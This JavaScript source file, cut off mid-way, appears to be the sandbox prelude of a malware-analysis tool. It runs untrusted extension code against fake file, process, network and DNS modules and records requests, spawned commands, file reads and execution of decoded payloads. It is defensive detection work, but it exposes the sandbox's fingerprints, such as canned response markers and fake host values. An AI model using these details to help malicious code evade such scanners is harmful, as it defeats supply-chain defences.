// The sandbox world an extension runs in. Evaluated once per runtime as a function of the
// host bindings; nothing it needs is left on the global object, so the extension cannot
// silence the recorder. No real I/O exists here: `host.read` looks a path up in the
// package's files (held in memory by Rust), `host.record` appends an observation.
(function (host) {
  'use strict';
  const hostRecord = host.record;
  const hostRead = host.read;
  const hostCompile = host.compile;
  const cfg = JSON.parse(host.config);
  const stringify = JSON.stringify;
  const parseJson = JSON.parse;
  const RealFunction = Function;
  const realEval = eval;
  const ObjectKeys = Object.keys;
  const CLIP = 65536;
  const MARK = 'pcyADV';
  let current = null;
  let eventCount = 0;

  // ---- recording ------------------------------------------------------------------------

  function clipValue(v, depth, seen) {
    if (v === null || v === undefined) return v === null ? null : '[undefined]';
    const t = typeof v;
    if (t === 'string') return v.length > CLIP ? v.slice(0, CLIP) + '…' : v;
    if (t === 'number' || t === 'boolean') return v;
    if (t === 'bigint') return String(v);
    if (t === 'function') return '[function]';
    if (t === 'symbol') return '[symbol]';
    if (depth > 5) return '[deep]';
    if (seen.indexOf(v) >= 0) return '[cycle]';
    seen.push(v);
    try {
      if (v instanceof Buffer) return v.toString();
      if (Array.isArray(v)) return v.slice(0, 64).map((x) => clipValue(x, depth + 1, seen));
      const out = {};
      let n = 0;
      for (const k of Reflect.ownKeys(v)) {
        if (typeof k !== 'string') continue;
        if (++n > 64) break;
        let x;
        try { x = v[k]; } catch (e) { x = '[throws]'; }
        out[k] = clipValue(x, depth + 1, seen);
      }
      return out;
    } catch (e) {
      return '[unreadable]';
    } finally {
      seen.pop();
    }
  }

  function site() {
    const stack = String(new Error().stack || '');
    for (const line of stack.split('\n')) {
      const m = /\(?([^()\s]+?):(\d+)(?::\d+)?\)?\s*$/.exec(line.trim());
      if (m && m[1].indexOf('<portcullis>') < 0 && m[1] !== 'native') {
        return { path: m[1], line: Number(m[2]) };
      }
    }
    return null;
  }

  function record(kind, data) {
    if (++eventCount > 20000) return;
    const ev = clipValue(data || {}, 0, []);
    ev.kind = kind;
    ev.call = current;
    const at = site();
    if (at) ev.at = at;
    try { hostRecord(stringify(ev)); } catch (e) { /* the recorder must never throw into the code */ }
  }

  function describeError(e) {
    if (e && typeof e === 'object') {
      return {
        name: String(e.name || (e.constructor && e.constructor.name) || 'Error'),
        message: String(e.message || ''),
        stack: String(e.stack || '').slice(0, 2000),
      };
    }
    return { name: typeof e, message: String(e) };
  }

  // ---- small utilities --------------------------------------------------------------------

  function noop() {}
  function dirname(p) { const i = p.lastIndexOf('/'); return i < 0 ? '' : p.slice(0, i); }
  function normalize(p) {
    const out = [];
    for (const s of p.split('/')) {
      if (!s || s === '.') continue;
      if (s === '..') { if (!out.length) return null; out.pop(); } else out.push(s);
    }
    return out.join('/');
  }

  // A value that answers any property with another such value; code that expects an
  // object of a shape we do not know still gets one. `leaf` decides what leaves are.
  function deep(path, leaf) {
    const store = {};
    const target = () => {};
    return new Proxy(target, {
      get(t, k) {
        if (typeof k === 'string' && Object.prototype.hasOwnProperty.call(store, k)) return store[k];
        if (k === Symbol.toPrimitive) return () => (leaf === null ? null : 'sample-' + path);
        if (k === 'toJSON') return () => (leaf === null ? null : 'sample-' + path);
        if (k === 'then' || typeof k === 'symbol') return undefined;
        if (leaf === null) return null;
        if (k === 'length') return 1;
        if (k === 'toString' || k === 'valueOf') return () => 'sample-' + path;
        return deep(path + '.' + String(k), leaf);
      },
      set(t, k, v) { store[k] = v; return true; },
      has(t, k) { return Object.prototype.hasOwnProperty.call(store, k); },
      ownKeys() { return Reflect.ownKeys(store).concat(['length', 'name']); },
      getOwnPropertyDescriptor(t, k) {
        if (Object.prototype.hasOwnProperty.call(store, k)) return { value: store[k], writable: true, enumerable: true, configurable: true };
        return Reflect.getOwnPropertyDescriptor(t, k);
      },
      apply() { return deep(path + '()', leaf); },
    });
  }

  // A missing module: every use works and nothing happens.
  function absent(name) {
    const target = function () {};
    const p = new Proxy(target, {
      get(t, k) {
        if (k === 'then' || typeof k === 'symbol') return undefined;
        if (k === '__esModule') return false;
        if (k === 'default') return p;
        if (k === 'toString' || k === 'valueOf') return () => '[missing ' + name + ']';
        return p;
      },
      apply() { return p; },
      construct() { return p; },
    });
    return p;
  }

  // ---- Buffer, base64, URL ----------------------------------------------------------------

  const B64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  function utf8Encode(s) {
    const out = [];
    for (let i = 0; i < s.length; i++) {
      let c = s.charCodeAt(i);
      if (c >= 0xd800 && c < 0xdc00 && i + 1 < s.length) {
        const d = s.charCodeAt(i + 1);
        if (d >= 0xdc00 && d < 0xe000) { c = 0x10000 + ((c - 0xd800) << 10) + (d - 0xdc00); i++; }
      }
      if (c < 0x80) out.push(c);
      else if (c < 0x800) out.push(0xc0 | (c >> 6), 0x80 | (c & 63));
      else if (c < 0x10000) out.push(0xe0 | (c >> 12), 0x80 | ((c >> 6) & 63), 0x80 | (c & 63));
      else out.push(0xf0 | (c >> 18), 0x80 | ((c >> 12) & 63), 0x80 | ((c >> 6) & 63), 0x80 | (c & 63));
    }
    return out;
  }
  function utf8Decode(bytes) {
    let s = '';
    for (let i = 0; i < bytes.length; i++) {
      const b = bytes[i];
      if (b < 0x80) s += String.fromCharCode(b);
      else if (b >= 0xc0 && b < 0xe0 && i + 1 < bytes.length) { s += String.fromCharCode(((b & 31) << 6) | (bytes[++i] & 63)); }
      else if (b >= 0xe0 && b < 0xf0 && i + 2 < bytes.length) { s += String.fromCharCode(((b & 15) << 12) | ((bytes[++i] & 63) << 6) | (bytes[++i] & 63)); }
      else if (b >= 0xf0 && i + 3 < bytes.length) {
        const c = ((b & 7) << 18) | ((bytes[++i] & 63) << 12) | ((bytes[++i] & 63) << 6) | (bytes[++i] & 63);
        const u = c - 0x10000; s += String.fromCharCode(0xd800 + (u >> 10), 0xdc00 + (u & 1023));
      } else s += '\ufffd';
    }
    return s;
  }
  function b64Decode(s) {
    s = String(s).replace(/[^A-Za-z0-9+/\-_]/g, '').replace(/-/g, '+').replace(/_/g, '/');
    const out = [];
    let buf = 0, bits = 0;
    for (let i = 0; i < s.length; i++) {
      buf = (buf << 6) | B64.indexOf(s[i]); bits += 6;
      if (bits >= 8) { bits -= 8; out.push((buf >> bits) & 255); }
    }
    return out;
  }
  function b64Encode(bytes) {
    let s = '';
    for (let i = 0; i < bytes.length; i += 3) {
      const n = (bytes[i] << 16) | ((bytes[i + 1] || 0) << 8) | (bytes[i + 2] || 0);
      s += B64[(n >> 18) & 63] + B64[(n >> 12) & 63] + (i + 1 < bytes.length ? B64[(n >> 6) & 63] : '=') + (i + 2 < bytes.length ? B64[n & 63] : '=');
    }
    return s;
  }

  // What decoding produced, so running it can be recognised as running a decoded payload.
  const decoded = [];
  function noteDecoded(api, text) {
    if (typeof text !== 'string' || text.length < 12) return;
    decoded.push(text.slice(0, 4096));
    if (decoded.length > 64) decoded.shift();
    record('decode', { api, length: text.length, sample: text.slice(0, 200) });
  }

  class Buffer extends Uint8Array {
    static from(v, enc) {
      if (typeof v === 'string') {
        let bytes;
        const e = String(enc || 'utf8').toLowerCase();
        if (e === 'base64' || e === 'base64url') bytes = b64Decode(v);
        else if (e === 'hex') { bytes = []; for (let i = 0; i + 1 < v.length; i += 2) bytes.push(parseInt(v.substr(i, 2), 16) || 0); }
        else if (e === 'latin1' || e === 'binary' || e === 'ascii') { bytes = []; for (let i = 0; i < v.length; i++) bytes.push(v.charCodeAt(i) & 255); }
        else bytes = utf8Encode(v);
        const b = new Buffer(bytes.length);
        b.set(bytes);
        if (e !== 'utf8' && e !== 'utf-8') b.__decodedFrom = e;
        return b;
      }
      if (v && typeof v === 'object' && v.type === 'Buffer' && Array.isArray(v.data)) v = v.data;
      const arr = Array.from(v || []);
      const b = new Buffer(arr.length);
      b.set(arr);
      return b;
    }
    static alloc(n, fill) { const b = new Buffer(Math.max(0, Math.min(Number(n) || 0, 1 << 26))); if (fill) b.fill(typeof fill === 'number' ? fill : 0); return b; }
    static allocUnsafe(n) { return Buffer.alloc(n); }
    static isBuffer(b) { return b instanceof Buffer; }
    static byteLength(s) { return typeof s === 'string' ? utf8Encode(s).length : (s && s.length) || 0; }
    static concat(list) {
      let n = 0; for (const b of list) n += b.length;
      const out = new Buffer(n); let o = 0;
      for (const b of list) { out.set(b, o); o += b.length; }
      return out;
    }
    toString(enc) {
      const e = String(enc || 'utf8').toLowerCase();
      let s;
      if (e === 'base64') s = b64Encode(this);
      else if (e === 'hex') s = Array.from(this, (x) => (x < 16 ? '0' : '') + x.toString(16)).join('');
      else s = utf8Decode(this);
      if (this.__decodedFrom && e !== 'base64' && e !== 'hex') noteDecoded('Buffer.from(' + this.__decodedFrom + ')', s);
      return s;
    }
    toJSON() { return { type: 'Buffer', data: Array.from(this) }; }
    equals(o) { if (!o || o.length !== this.length) return false; for (let i = 0; i < this.length; i++) if (this[i] !== o[i]) return false; return true; }
    write(s) { const b = utf8Encode(String(s)); this.set(b.slice(0, this.length)); return Math.min(b.length, this.length); }
    readUInt32BE(o) { o = o || 0; return ((this[o] << 24) >>> 0) + (this[o + 1] << 16) + (this[o + 2] << 8) + this[o + 3]; }
  }

  class URLSearchParams {
    constructor(init) {
      this._p = [];
      if (typeof init === 'string') {
        for (const part of init.replace(/^\?/, '').split('&')) {
          if (!part) continue;
          const i = part.indexOf('=');
          const k = i < 0 ? part : part.slice(0, i);
          const v = i < 0 ? '' : part.slice(i + 1);
          this._p.push([safeDecode(k), safeDecode(v)]);
        }
      } else if (init && typeof init === 'object') {
        for (const k of ObjectKeys(init)) this._p.push([k, String(init[k])]);
      }
    }
    get(k) { const e = this._p.find((x) => x[0] === k); return e ? e[1] : null; }
    getAll(k) { return this._p.filter((x) => x[0] === k).map((x) => x[1]); }
    set(k, v) { this.delete(k); this._p.push([k, String(v)]); }
    append(k, v) { this._p.push([k, String(v)]); }
    has(k) { return this._p.some((x) => x[0] === k); }
    delete(k) { this._p = this._p.filter((x) => x[0] !== k); }
    forEach(fn) { for (const [k, v] of this._p) fn(v, k, this); }
    entries() { return this._p[Symbol.iterator](); }
    [Symbol.iterator]() { return this._p[Symbol.iterator](); }
    toString() { return this._p.map(([k, v]) => encodeURIComponent(k) + '=' + encodeURIComponent(v)).join('&'); }
  }
  function safeDecode(s) { try { return decodeURIComponent(s.replace(/\+/g, ' ')); } catch (e) { return s; } }

  class URL {
    constructor(input, base) {
      let s = String(input);
      if (!/^[a-zA-Z][a-zA-Z0-9+.-]*:/.test(s)) {
        if (base === undefined) throw new TypeError('Invalid URL: ' + s);
        const b = new URL(base);
        s = s.startsWith('/') ? b.origin + s : b.origin + dirname(b.pathname) + '/' + s;
      }
      const m = /^([a-zA-Z][a-zA-Z0-9+.-]*:)(?:\/\/(?:([^:@/?#]*)(?::([^@/?#]*))?@)?([^:/?#]*)(?::(\d*))?)?([^?#]*)(\?[^#]*)?(#.*)?$/.exec(s);
      if (!m) throw new TypeError('Invalid URL: ' + s);
      this.protocol = m[1].toLowerCase();
      this.username = m[2] || '';
      this.password = m[3] || '';
      this.hostname = (m[4] || '').toLowerCase();
      this.port = m[5] || '';
      this.pathname = m[6] || '/';
      this.search = m[7] && m[7] !== '?' ? m[7] : '';
      this.hash = m[8] || '';
      this.searchParams = new URLSearchParams(this.search);
    }
    get host() { return this.hostname + (this.port ? ':' + this.port : ''); }
    get origin() { return this.protocol + '//' + this.host; }
    get href() {
      const q = this.searchParams.toString();
      const auth = this.username ? this.username + (this.password ? ':' + this.password : '') + '@' : '';
      return this.protocol + '//' + auth + this.host + this.pathname + (q ? '?' + q : '') + this.hash;
    }
    toString() { return this.href; }
    toJSON() { return this.href; }
  }

  // ---- events, streams --------------------------------------------------------------------

  class EventEmitter {
    constructor() { this._events = {}; }
    on(ev, fn) { (this._ev()[ev] = this._ev()[ev] || []).push(fn); return this; }
    addListener(ev, fn) { return this.on(ev, fn); }
    prependListener(ev, fn) { return this.on(ev, fn); }
    once(ev, fn) { const w = (...a) => { this.off(ev, w); fn.apply(this, a); }; return this.on(ev, w); }
    off(ev, fn) { const l = this._ev()[ev]; if (l) this._ev()[ev] = l.filter((x) => x !== fn); return this; }
    removeListener(ev, fn) { return this.off(ev, fn); }
    removeAllListeners(ev) { if (ev === undefined) this._events = {}; else delete this._ev()[ev]; return this; }
    emit(ev, ...args) { const l = (this._ev()[ev] || []).slice(); for (const fn of l) fn.apply(this, args); return l.length > 0; }
    listeners(ev) { return (this._ev()[ev] || []).slice(); }
    listenerCount(ev) { return (this._ev()[ev] || []).length; }
    setMaxListeners() { return this; }
    _ev() { if (!this._events) this._events = {}; return this._events; }
  }
  EventEmitter.EventEmitter = EventEmitter;
  EventEmitter.defaultMaxListeners = 10;

  class Stream extends EventEmitter {
    pipe(dest) { this.on('data', (d) => dest.write && dest.write(d)); this.on('end', () => dest.end && dest.end()); return dest; }
    write(d) { this.emit('data', d); return true; }
    end(d) { if (d !== undefined) this.write(d); this.emit('finish'); this.emit('end'); return this; }
    destroy() { this.emit('close'); return this; }
    setEncoding() { return this; }
    resume() { return this; }
    pause() { return this; }
  }

  // ---- timers (a fake clock: callbacks run when the host asks, in due order) -------------

  let timers = [];
  let timerSeq = 0;
  let clock = 0;
  function addTimer(api, fn, delay, args, repeat) {
    const id = ++timerSeq;
    const d = Math.max(0, Number(delay) || 0);
    record('timer', { api, delay: d });
    if (typeof fn === 'string') { recordDynamic(api + '(string)', fn); const src = fn; fn = () => realEval(src); }
    if (typeof fn !== 'function') return id;
    timers.push({ id, at: clock + d, delay: d, fn, args, repeat, runs: 0 });
    return id;
  }
  function clearTimer(id) { if (id && typeof id === 'object') id = id.id; timers = timers.filter((t) => t.id !== id); }
  function Timeout(id) { this.id = id; }
  Timeout.prototype.unref = function () { return this; };
  Timeout.prototype.ref = function () { return this; };
  Timeout.prototype.hasRef = function () { return true; };
  Timeout.prototype[Symbol.toPrimitive] = function () { return this.id; };
  function runTimers(max) {
    let n = 0;
    while (timers.length && n < max) {
      timers.sort((a, b) => a.at - b.at || a.id - b.id);
      const t = timers.shift();
      clock = Math.max(clock, t.at);
      n++;
      if (t.repeat && ++t.runs < 5) { t.at = clock + Math.max(1, t.delay); timers.push(t); }
      try { t.fn.apply(null, t.args || []); } catch (e) { record('exception', { phase: 'timer', error: describeError(e) }); }
      return n; // one per turn: the host drains promise jobs between timers
    }
    return n;
  }

  // ---- dynamic code -----------------------------------------------------------------------

  function recordDynamic(api, source) {
    const src = String(source);
    let fromDecoded = false;
    for (const d of decoded) {
      if (d.length >= 12 && (src.indexOf(d) >= 0 || d.indexOf(src) >= 0 && src.length >= 12)) { fromDecoded = true; break; }
    }
    const fromNetwork = src.indexOf('pcy-canned-response') >= 0;
    const fromInput = src.indexOf(MARK) >= 0;
    record('dynamic-code', { api, source: src.slice(0, 4096), length: src.length, fromDecoded, fromNetwork, fromInput });
  }
  function evalWrapper(src) {
    if (typeof src !== 'string') return src;
    recordDynamic('eval', src);
    return realEval(src);
  }
  function FunctionWrapper(...args) {
    recordDynamic('Function', args.length ? args[args.length - 1] : '');
    return RealFunction.apply(null, args);
  }
  FunctionWrapper.prototype = RealFunction.prototype;
  Object.defineProperty(RealFunction.prototype, 'constructor', { value: FunctionWrapper, writable: true, configurable: true });

  // ---- network ----------------------------------------------------------------------------

  const CANNED = { ok: true, id: 1, data: [], items: [], results: [], message: 'pcy-canned-response' };
  const CANNED_TEXT = stringify(CANNED);
  function cannedResponse() { return parseJson(CANNED_TEXT); }

  function recordRequest(api, channel, method, url, headers, body) {
    let u = String(url || '');
    record('request', { api, channel, method: String(method || 'GET').toUpperCase(), url: u, headers: headers || {}, body: body === undefined ? null : (typeof body === 'string' ? body : clipValue(body, 0, [])) });
  }

  function optionsUrl(o, defaultProto) {
    if (typeof o === 'string') return o;
    if (o instanceof URL) return o.href;
    o = o || {};
    if (o.url || o.uri) {
      const base = o.baseURL || o.baseUrl || '';
      const path = String(o.url || o.uri);
      return /^[a-z]+:/i.test(path) ? path : base.replace(/\/$/, '') + (path.startsWith('/') ? '' : '/') + path;
    }
    const proto = o.protocol || defaultProto;
    const h = o.hostname || o.host || 'localhost';
    return proto + '//' + h + (o.port ? ':' + o.port : '') + (o.path || '/');
  }
  function withQuery(url, qs) {
    if (!qs || typeof qs !== 'object' || !ObjectKeys(qs).length) return url;
    return url + (String(url).indexOf('?') >= 0 ? '&' : '?') + new URLSearchParams(qs).toString();
  }

  function httpModule(proto) {
    class IncomingMessage extends Stream { constructor() { super(); this.statusCode = 200; this.headers = { 'content-type': 'application/json' }; } }
    class ClientRequest extends Stream {
      constructor(url, opts, cb) {
        super();
        this._url = url; this._opts = opts || {}; this._cb = cb; this._body = []; this._done = false;
        this._headers = Object.assign({}, this._opts.headers || {});
        setTimeoutImpl(() => this._finish(), 0);
      }
      setHeader(k, v) { this._headers[k] = v; }
      getHeader(k) { return this._headers[k]; }
      removeHeader(k) { delete this._headers[k]; }
      setTimeout() { return this; }
      abort() { this._done = true; }
      write(d) { this._body.push(String(d)); return true; }
      end(d) { if (d !== undefined && typeof d !== 'function') this._body.push(String(d)); this._finish(); return this; }
      _finish() {
        if (this._done) return; this._done = true;
        recordRequest(proto + '.request', 'backend-http', this._opts.method || 'GET', this._url, this._headers, this._body.join(''));
        const res = new IncomingMessage();
        if (this._cb) this._cb(res);
        this.emit('response', res);
        setTimeoutImpl(() => { res.emit('data', Buffer.from(CANNED_TEXT)); res.emit('end'); res.emit('close'); }, 0);
      }
    }
    function request(a, b, c) {
      let opts = {}, cb = c;
      if (typeof b === 'function') { cb = b; b = undefined; }
      if (typeof a === 'object' && !(a instanceof URL)) opts = a; else opts = Object.assign({}, b || {});
      const url = typeof a === 'object' && !(a instanceof URL) ? optionsUrl(a, proto + ':') : String(a);
      return new ClientRequest(url, opts, cb);
    }
    function get(a, b, c) { const r = request(a, b, c); r.end(); return r; }
    function createServer(handler) {
      const s = new EventEmitter();
      s.listen = (port, ...rest) => { record('listen', { api: proto + '.createServer', port: String(port) }); const cb = rest.find((x) => typeof x === 'function'); if (cb) setTimeoutImpl(cb, 0); return s; };
      s.close = (cb) => { if (cb) cb(); return s; };
      s.address = () => ({ port: 0, address: '127.0.0.1' });
      if (handler) s.on('request', handler);
      return s;
    }
    class Agent { constructor(o) { this.options = o || {}; } destroy() {} }
    return { request, get, createServer, Agent, globalAgent: new Agent(), IncomingMessage, ClientRequest, STATUS_CODES: { 200: 'OK', 404: 'Not Found' }, METHODS: ['GET', 'POST', 'PUT', 'DELETE'] };
  }

  function socketModule(api) {
    class Socket extends Stream {
      constructor(host, port) { super(); this._host = host; this._port = port; setTimeoutImpl(() => this.emit('connect'), 0); }
      connect(port, host, cb) { this._host = host || 'localhost'; this._port = port; if (typeof cb === 'function') setTimeoutImpl(cb, 0); return this; }
      write(d) { recordRequest(api + '.write', 'raw-socket', 'SEND', 'tcp://' + this._host + ':' + this._port, {}, String(d)); return true; }
      end(d) { if (d !== undefined) this.write(d); this.emit('end'); this.emit('close'); return this; }
      setTimeout() { return this; }
      setNoDelay() { return this; }
      setKeepAlive() { return this; }
      unref() { return this; }
    }
    function connect(a, b, c) {
      let host = 'localhost', port = a, cb = c;
      if (a && typeof a === 'object') { host = a.host || 'localhost'; port = a.port; cb = b; } else if (typeof b === 'string') host = b; else if (typeof b === 'function') cb = b;
      recordRequest(api + '.connect', 'raw-socket', 'CONNECT', 'tcp://' + host + ':' + port, {}, null);
      const s = new Socket(host, port);
      if (typeof cb === 'function') setTimeoutImpl(cb, 0);
      return s;
    }
    return { connect, createConnection: connect, Socket, createServer: httpModule('net').createServer, isIP: (s) => (/^\d+\.\d+\.\d+\.\d+$/.test(s) ? 4 : 0) };
  }

  function dnsModule() {
    const addr = '203.0.113.10';
    function lookup(host, opts, cb) { if (typeof opts === 'function') cb = opts; record('dns', { api: 'dns.lookup', host: String(host) }); if (cb) setTimeoutImpl(() => cb(null, addr, 4), 0); }
    function resolver(api, value) {
      return function (host, type, cb) { if (typeof type === 'function') cb = type; record('dns', { api: 'dns.' + api, host: String(host) }); if (cb) setTimeoutImpl(() => cb(null, value), 0); };
    }
    const m = { lookup, resolve: resolver('resolve', [addr]), resolve4: resolver('resolve4', [addr]), resolve6: resolver('resolve6', []), resolveTxt: resolver('resolveTxt', [['v=spf1']]), resolveMx: resolver('resolveMx', []), reverse: resolver('reverse', ['host.example.test']) };
    m.promises = {};
    for (const k of ObjectKeys(m)) if (typeof m[k] === 'function') m.promises[k] = (h, t) => new Promise((res) => m[k](h, t, (e, v) => res(k === 'lookup' ? { address: addr, family: 4 } : v)));
    return m;
  }

  // A request API the way axios, got, node-fetch or n8n's helpers answer: recorded, canned.
  function fetchImpl(url, init) {
    init = init || {};
    const u = url && typeof url === 'object' && !(url instanceof URL) ? url.url : String(url);
    recordRequest('fetch', 'backend-http', init.method || 'GET', u, init.headers || {}, init.body);
    return Promise.resolve(makeResponse());
  }
  function makeResponse() {
    return { ok: true, status: 200, statusText: 'OK', headers: { get: () => 'application/json', has: () => true, forEach: noop }, json: () => Promise.resolve(cannedResponse()), text: () => Promise.resolve(CANNED_TEXT), arrayBuffer: () => Promise.resolve(Buffer.from(CANNED_TEXT).buffer), body: null };
  }
  function axiosLike(name) {
    function call(config) {
      config = config || {};
      const url = withQuery(optionsUrl(config, 'https:'), config.params || config.searchParams);
      recordRequest(name, 'backend-http', config.method || 'GET', url, config.headers || {}, config.data !== undefined ? config.data : config.body !== undefined ? config.body : config.json);
      return Promise.resolve({ data: cannedResponse(), body: cannedResponse(), status: 200, statusCode: 200, headers: {}, config });
    }
    const inst = function (a, b) { return typeof a === 'string' ? call(Object.assign({}, b || {}, { url: a })) : call(a); };
    for (const m of ['get', 'delete', 'head', 'options']) inst[m] = (u, c) => call(Object.assign({}, c || {}, { url: u, method: m }));
    for (const m of ['post', 'put', 'patch']) inst[m] = (u, d, c) => call(Object.assign({}, c || {}, { url: u, method: m, data: d }));
    inst.request = call;
    inst.create = (defaults) => { const i = axiosLike(name); const base = i; const w = (a, b) => base(Object.assign({}, defaults || {}, typeof a === 'string' ? Object.assign({}, b, { url: a }) : a)); Object.assign(w, base); w.request = (c) => call(Object.assign({}, defaults || {}, c)); for (const m of ['get', 'delete', 'head', 'options']) w[m] = (u, c) => call(Object.assign({}, defaults || {}, c || {}, { url: u, method: m })); for (const m of ['post', 'put', 'patch']) w[m] = (u, d, c) => call(Object.assign({}, defaults || {}, c || {}, { url: u, method: m, data: d })); return w; };
    inst.extend = inst.create;
    inst.defaults = { headers: { common: {} } };
    inst.interceptors = { request: { use: noop }, response: { use: noop } };
    inst.isAxiosError = () => false;
    inst.default = inst;
    return inst;
  }

  // ---- fs, child_process, os, crypto, vm ------------------------------------------------

  function pkgPath(p) {
    const s = String(p && p.href ? p.pathname : p);
    if (s.startsWith('/pkg/')) return normalize(s.slice(5));
    return null;
  }
  function fsModule() {
    const FAKE = 'pcy-sandbox-file-content';
    function readSync(api, p, enc) {
      const inPkg = pkgPath(p);
      record('file', { api, op: 'read', path: String(p), inPackage: inPkg !== null });
      let text = inPkg !== null ? hostRead(inPkg) : FAKE;
      if (text === null || text === undefined) { const e = new Error("ENOENT: no such file or directory, open '" + p + "'"); e.code = 'ENOENT'; throw e; }
      const enc2 = typeof enc === 'string' ? enc : enc && enc.encoding;
      return enc2 ? text : Buffer.from(text);
    }
    function write(api, p) { record('file', { api, op: 'write', path: String(p), inPackage: pkgPath(p) !== null }); }
    function meta(api, p) { record('file', { api, op: 'stat', path: String(p), inPackage: pkgPath(p) !== null }); }
    const stats = { isFile: () => true, isDirectory: () => false, isSymbolicLink: () => false, size: 24, mtime: new Date(0), mtimeMs: 0, mode: 0o644 };
    const m = {
      readFileSync: (p, e) => readSync('fs.readFileSync', p, e),
      writeFileSync: (p) => write('fs.writeFileSync', p),
      appendFileSync: (p) => write('fs.appendFileSync', p),
      mkdirSync: (p) => write('fs.mkdirSync', p),
      unlinkSync: (p) => write('fs.unlinkSync', p),
      rmSync: (p) => write('fs.rmSync', p),
      rmdirSync: (p) => write('fs.rmdirSync', p),
      renameSync: (p) => write('fs.renameSync', p),
      copyFileSync: (a, b) => { readSync('fs.copyFileSync', a); write('fs.copyFileSync', b); },
      chmodSync: (p) => write('fs.chmodSync', p),
      existsSync: (p) => { meta('fs.existsSync', p); return true; },
      statSync: (p) => { meta('fs.statSync', p); return stats; },
      lstatSync: (p) => { meta('fs.lstatSync', p); return stats; },
      accessSync: (p) => { meta('fs.accessSync', p); },
      readdirSync: (p) => { record('file', { api: 'fs.readdirSync', op: 'list', path: String(p), inPackage: pkgPath(p) !== null }); return []; },
      realpathSync: (p) => String(p),
      createReadStream: (p) => { record('file', { api: 'fs.createReadStream', op: 'read', path: String(p), inPackage: pkgPath(p) !== null }); const s = new Stream(); setTimeoutImpl(() => { s.emit('data', Buffer.from(FAKE)); s.emit('end'); s.emit('close'); }, 0); return s; },
      createWriteStream: (p) => { write('fs.createWriteStream', p); return new Stream(); },
      watch: (p) => { meta('fs.watch', p); return new EventEmitter(); },
      constants: { F_OK: 0, R_OK: 4, W_OK: 2, X_OK: 1 },
    };
    const cbApi = {};
    const promises = {};
    for (const k of ObjectKeys(m)) {
      if (!k.endsWith('Sync')) continue;
      const base = k.slice(0, -4);
      const sync = m[k];
      cbApi[base] = (...args) => { const cb = typeof args[args.length - 1] === 'function' ? args.pop() : null; let r, err = null; try { r = sync(...args); } catch (e) { err = e; } if (cb) setTimeoutImpl(() => (base === 'exists' ? cb(r) : cb(err, r)), 0); };
      promises[base] = (...args) => { try { return Promise.resolve(sync(...args)); } catch (e) { return Promise.reject(e); } };
    }
    Object.assign(m, cbApi);
    m.promises = promises;
    return m;
  }

  function childProcessModule() {
    function spawnRecord(api, command, args, opts) {
      record('spawn', { api, command: String(command), args: Array.isArray(args) ? args.map(String) : [], shell: !!(opts && opts.shell) || api.indexOf('exec') === 0 && api.indexOf('execFile') < 0 });
    }
    class ChildProcess extends EventEmitter {
      constructor() { super(); this.pid = 4243; this.stdout = new Stream(); this.stderr = new Stream(); this.stdin = new Stream(); this.exitCode = null; setTimeoutImpl(() => { this.exitCode = 0; this.stdout.emit('end'); this.emit('exit', 0, null); this.emit('close', 0, null); }, 0); }
      kill() { return true; }
      unref() { return this; }
    }
    function withCb(args) { const cb = typeof args[args.length - 1] === 'function' ? args[args.length - 1] : null; if (cb) setTimeoutImpl(() => cb(null, '', ''), 0); }
    return {
      exec: (cmd, ...rest) => { spawnRecord('exec', cmd, [], rest[0]); withCb(rest); return new ChildProcess(); },
      execSync: (cmd, opts) => { spawnRecord('execSync', cmd, [], opts); return opts && opts.encoding ? '' : Buffer.from(''); },
      execFile: (f, args, ...rest) => { spawnRecord('execFile', f, Array.isArray(args) ? args : [], rest[0]); withCb([args, ...rest]); return new ChildProcess(); },
      execFileSync: (f, args, opts) => { spawnRecord('execFileSync', f, args, opts); return Buffer.from(''); },
      spawn: (cmd, args, opts) => { spawnRecord('spawn', cmd, args, opts); return new ChildProcess(); },
      spawnSync: (cmd, args, opts) => { spawnRecord('spawnSync', cmd, args, opts); return { status: 0, stdout: Buffer.from(''), stderr: Buffer.from(''), output: [] }; },
      fork: (mod, args) => { spawnRecord('fork', mod, args); return new ChildProcess(); },
      ChildProcess,
    };
  }

  function osModule() {
    const info = (api, v) => () => { record('host-info', { api: 'os.' + api }); return v; };
    return {
      hostname: info('hostname', 'build-host-01'), homedir: info('homedir', '/home/node'), tmpdir: () => '/tmp',
      userInfo: info('userInfo', { username: 'node', uid: 1000, gid: 1000, shell: '/bin/sh', homedir: '/home/node' }),
      networkInterfaces: info('networkInterfaces', { eth0: [{ address: '10.0.0.5', family: 'IPv4', internal: false, mac: '02:42:ac:11:00:02' }] }),
      platform: () => 'linux', type: () => 'Linux', release: () => '6.1.0', arch: () => 'x64', EOL: '\n',
      cpus: () => [{ model: 'cpu', speed: 2000 }, { model: 'cpu', speed: 2000 }], totalmem: () => 8 * 2 ** 30, freemem: () => 4 * 2 ** 30,
      uptime: () => 1000, loadavg: () => [0.1, 0.1, 0.1], endianness: () => 'LE', constants: { signals: {} }, availableParallelism: () => 2,
    };
  }

  function cryptoModule() {
    let seed = 0x2545f491;
    function rnd() { seed ^= seed << 13; seed ^= seed >>> 17; seed ^= seed << 5; return (seed >>> 0) & 255; }
    function hashObj(api) {
      let acc = 0x811c9dc5;
      const h = {
        update(d) { const s = String(d); for (let i = 0; i < s.length; i++) acc = Math.imul(acc ^ s.charCodeAt(i), 16777619) >>> 0; return h; },
        digest(enc) { let hex = ''; let x = acc; for (let i = 0; i < 8; i++) { x = Math.imul(x ^ (x >>> 15), 2246822507) >>> 0; hex += (x >>> 0).toString(16).padStart(8, '0'); } return enc === 'hex' || enc === undefined ? (enc ? hex : Buffer.from(hex, 'hex')) : Buffer.from(hex, 'hex').toString(enc); },
      };
      return h;
    }
    function cipher(api) {
      const parts = [];
      return { update(d, inEnc, outEnc) { const s = typeof d === 'string' ? d : Buffer.from(d).toString(); parts.push(s); return outEnc ? '' : Buffer.from(''); }, final(enc) { const s = parts.join(''); if (api === 'createDecipheriv') noteDecoded('crypto.' + api, s); return enc ? s : Buffer.from(s); }, setAuthTag() {}, getAuthTag: () => Buffer.alloc(16), setAAD() {} };
    }
    return {
      randomBytes: (n, cb) => { const b = Buffer.alloc(n); for (let i = 0; i < b.length; i++) b[i] = rnd(); if (cb) setTimeoutImpl(() => cb(null, b), 0); return b; },
      randomUUID: () => '6f1c2a4e-0b7d-4c1e-9a53-2d8f0e6b4c11', randomInt: (a, b) => (b === undefined ? 0 : a),
      createHash: hashObj, createHmac: hashObj,
